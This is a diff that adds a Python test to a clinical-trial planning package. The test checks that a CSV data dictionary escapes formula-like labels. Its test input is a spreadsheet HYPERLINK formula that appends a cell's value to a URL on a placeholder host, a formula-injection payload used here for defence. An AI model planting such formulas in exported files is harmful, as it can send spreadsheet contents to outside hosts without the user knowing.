@@ -444,3 +444,24 @@ def test_analysis_code_writes_a_script_whatever_the_file_name(example_file, tmp_
     calls = [n.func.attr for n in ast.walk(tree) if isinstance(n, ast.Call)
              and isinstance(n.func, ast.Attribute)]
     assert "system" not in calls
+
+
+def test_the_dummy_data_dictionary_shows_formula_like_labels_as_text():
+    import csv
+    import io
+
+    from trialplan.model.checks import load_trial_text
+    from trialplan.planning import build_plan
+    from trialplan.simulation import dummy
+    from trialplan.simulation.spec import build_spec
+
+    formula = '=HYPERLINK("http://example.invalid/?"&A1,"Hope")'
+    text = example_text().replace("      label: Hope\n", f"      label: '{formula}'\n")
+    assert formula in text
+    trial = load_trial_text(text)
+    spec = build_spec(trial, build_plan(trial), {"n": 80})
+    data, _ = dummy.dummy_dataset(spec, 1)
+    rows = list(csv.reader(io.StringIO(dummy.dictionary(spec, data))))
+    labels = [row[1] for row in rows]
+    assert "'" + formula in labels  # a spreadsheet ran it as a formula
+    assert not any(cell[:1] in "=+-@" for row in rows for cell in row if cell)
